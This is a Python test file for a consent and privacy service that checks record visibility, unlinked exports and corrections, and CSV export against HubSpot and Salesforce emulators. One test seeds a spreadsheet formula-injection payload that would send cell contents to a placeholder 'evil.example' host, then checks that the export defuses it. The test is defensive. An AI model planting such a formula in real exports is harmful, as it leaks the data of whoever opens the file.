"""What the privacy page shows and gives a person, against both emulators over HTTP: only the
records holding an address they proved (``held``, ``linked=False`` exports and corrections),
each purpose merged as the sync merges it, and the download as CSV."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import structlog

from bridge import audit
from bridge.adapters.base import CrmAdapter
from bridge.model import LawfulBasis, System
from bridge.runtime.wiring import connect
from bridge.services.held import BASIS_MEANING, HEADER, export_csv, held
from bridge.services.rights import export_subject, rectify_subject
from bridge.store.db import Store
from bridge_sandbox.emulators.people import Act, Held, Person, seed_hubspot, seed_salesforce
from tests.conftest import PSEUDONYM_KEY, PURPOSES, Crms

KEY = PSEUDONYM_KEY.encode()
T0 = datetime(2025, 3, 1, tzinfo=UTC)
T1 = T0 + timedelta(days=1)
CREATED = datetime(2024, 1, 1, tzinfo=UTC)  # people.py's creation stamp
PHONE = "+44 20 7946 0000"


def seed(crms: Crms) -> dict[System, CrmAdapter]:
    """Ada: a HubSpot contact that also holds her work address, a Salesforce Lead; a
    Salesforce Contact holding only the work address (someone she may or may not be);
    Grace, someone else entirely."""
    ada = Person(
        "ada@example.com",
        hubspot=Held(acts=(Act("marketing_email", "granted", T0),), lawful_basis="consent"),
        salesforce=Held(acts=(Act("marketing_email", "withdrawn", T1),), object_type="lead"),
    )
    grace = Person("grace@example.com", first_name="Grace", last_name="Hopper")
    seed_hubspot(crms.hubspot, [ada, grace], PURPOSES)
    seed_salesforce(crms.salesforce, [ada, grace], PURPOSES)
    crms.seed_hubspot(email="ada@example.com", additional_emails=["ada@work.example"], phone=PHONE)
    crms.seed_salesforce("Contact", LastName="Byron", Email="ada@work.example")
    return dict(connect(crms.settings))


def test_held_shows_only_records_of_proved_addresses_and_names_the_unproved(crms: Crms) -> None:
    adapters = seed(crms)

    with structlog.testing.capture_logs() as logs:
        seen = held(adapters, [" ADA@example.com"], PURPOSES, KEY)

    assert seen.emails == ("ada@example.com",)
    assert [(r.system, r.object_type) for r in seen.records] == [
        ("hubspot", "contact"),
        ("salesforce", "lead"),
    ]
    contact, lead = seen.records
    assert contact.fields == (
        ("Email", "ada@example.com"),
        ("First name", "Ada"),
        ("Last name", "Lovelace"),
        ("Phone", PHONE),
    )
    assert (contact.other_emails, contact.lawful_basis) == (("ada@work.example",), "consent")
    assert contact.created_at == CREATED and lead.created_at == CREATED
    assert lead.object_name == "Lead" and lead.other_emails == ()
    assert seen.unproved == ("ada@work.example",)
    assert "Byron" not in repr(seen) and "grace" not in repr(seen).lower()
    assert "ada@example.com" not in str(logs) and "Lovelace" not in str(logs)

    marketing, updates = seen.purposes
    assert (marketing.purpose, marketing.status) == ("marketing_email", "opted_out")
    assert marketing.per_system == (("hubspot", "opted_in"), ("salesforce", "opted_out"))
    assert (marketing.changed_at, marketing.source) == (T1, "web form")
    assert marketing.lawful_basis == "consent" and marketing.channel == "email"
    assert (updates.status, updates.changed_at, updates.source) == ("unknown", None, None)
    assert updates.per_system == (("hubspot", "unknown"), ("salesforce", "unknown"))
    assert not seen.opted_out_of_all_email


def test_held_says_an_opt_out_of_all_email_withdraws_each_email_purpose(crms: Crms) -> None:
    ada = Person(
        "ada@example.com",
        hubspot=Held(acts=(Act("marketing_email", "granted", T0),), opted_out_at=T1),
        salesforce=None,
    )
    seed_hubspot(crms.hubspot, [ada], PURPOSES)

    seen = held(connect(crms.settings), ["ada@example.com"], PURPOSES, KEY)

    assert seen.opted_out_of_all_email
    assert [(p.purpose, p.status) for p in seen.purposes] == [
        ("marketing_email", "opted_out"),
        ("product_updates", "opted_out"),
    ]
    assert seen.purposes[0].changed_at == T1


def test_held_for_an_address_no_crm_holds_is_empty(crms: Crms) -> None:
    seen = held(connect(crms.settings), ["nobody@example.com"], PURPOSES, KEY)
    assert (seen.records, seen.unproved, seen.opted_out_of_all_email) == ((), (), False)
    assert {p.status for p in seen.purposes} == {"unknown"}


def test_every_lawful_basis_is_explained() -> None:
    assert set(BASIS_MEANING) == {basis.value for basis in LawfulBasis}
    assert all(meaning.endswith(".") for meaning in BASIS_MEANING.values())


def test_an_unlinked_export_holds_only_the_proved_addresses_records(
    crms: Crms, store: Store
) -> None:
    adapters = seed(crms)

    alone = export_subject(store, adapters, KEY, ["ada@example.com"], "portal", linked=False)
    linked = export_subject(store, adapters, KEY, ["ada@example.com"], "cli")

    assert alone["emails"] == ["ada@example.com"]
    assert "Byron" not in str(alone) and "Hopper" not in str(alone)
    assert "Byron" in str(linked["systems"]) and "ada@work.example" in linked["emails"]
    exported = [e for e in audit.events(store) if e["action"] == "export"]
    assert [(e["actor"], e["details"].get("linked")) for e in exported] == [
        ("portal", False),
        ("cli", None),
    ]


def test_an_unlinked_correction_writes_only_the_proved_addresses_records(
    crms: Crms, store: Store
) -> None:
    adapters = seed(crms)

    result = rectify_subject(
        store, adapters, KEY, ["ada@example.com"], {"last_name": "King"}, ["last_name"],
        actor="portal", linked=False,
    )  # fmt: skip

    assert {(r["system"], r["status"]) for r in result["records"]} == {
        ("hubspot", "done"),
        ("salesforce", "done"),
    }
    contacts = crms.salesforce.get("/__emulator/records", params={"type": "Contact"}).json()
    assert {r["LastName"] for r in contacts["records"]} == {"Byron", "Hopper"}
    leads = crms.salesforce.get("/__emulator/records", params={"type": "Lead"}).json()
    assert [r["LastName"] for r in leads["records"]] == ["King"]
    rectify_subject(
        store, adapters, KEY, ["ada@example.com"], {"last_name": "King"}, ["last_name"]
    )  # linked, as before: the work address's Contact too
    contacts = crms.salesforce.get("/__emulator/records", params={"type": "Contact"}).json()
    assert {r["LastName"] for r in contacts["records"]} == {"King", "Hopper"}


def test_the_export_as_csv_round_trips_and_defuses_formulas(crms: Crms, store: Store) -> None:
    adapters = seed(crms)
    tricky = 'Lovelace, "Countess"\nof Lovelace'
    formula = '=HYPERLINK("https://evil.example/?"&A1)'
    crms.seed_hubspot(email="ada@example.com", lastname=tricky, firstname=formula)
    export_subject(store, adapters, KEY, ["ada@example.com"], "portal", linked=False)
    document = export_subject(store, adapters, KEY, ["ada@example.com"], "portal", linked=False)

    text = export_csv(document)

    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == HEADER and all(len(row) == len(HEADER) for row in rows)
    [contact] = document["systems"]["hubspot"]["contacts"]
    by_field = {row[3]: row for row in rows if row[:3] == ["hubspot", "contacts", contact["id"]]}
    assert by_field["properties.lastname"][4] == tricky
    assert by_field["properties.firstname"][4] == "'" + formula
    assert by_field["properties.phone"][4] == PHONE  # a phone number is no formula
    prefs = [row[3:] for row in rows if row[:2] == ["hubspot", "communication_preferences"]]
    assert ["subscriptions[0].status", "SUBSCRIBED"] in prefs
    [lead] = document["systems"]["salesforce"]["records"]["Lead"]
    assert ["salesforce", "Lead", lead["Id"], "Company", "Analytical Engines Ltd"] in rows
    consents = [row[3:] for row in rows if row[1] == "ContactPointTypeConsent"]
    assert ["PrivacyConsentStatus", "OptOut"] in consents
    [event] = [row for row in rows if row[1] == "audit_event" and row[3] == "action"]
    assert event[0] == "consent-bridge" and event[4] == "export"
    assert ["consent-bridge", "export", "", "emails[0]", "ada@example.com"] in rows
    # Nothing lost, nothing invented: each value of a record is a row's value or its id.
    held_values = set(_leaves(document["systems"])) - set(document["systems"])
    written = {row[4].removeprefix("'") for row in rows[1:]} | {row[2] for row in rows[1:]}
    assert held_values <= written
    assert {row[4].removeprefix("'") for row in rows[1:]} <= set(_leaves(document))


def _leaves(value: Any) -> Any:
    """Every non-empty scalar of a document, as the CSV writes it."""
    if isinstance(value, dict):
        for inner in value.values():
            yield from _leaves(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _leaves(inner)
    elif value not in (None, ""):
        yield str(value).lower() if isinstance(value, bool) else str(value)
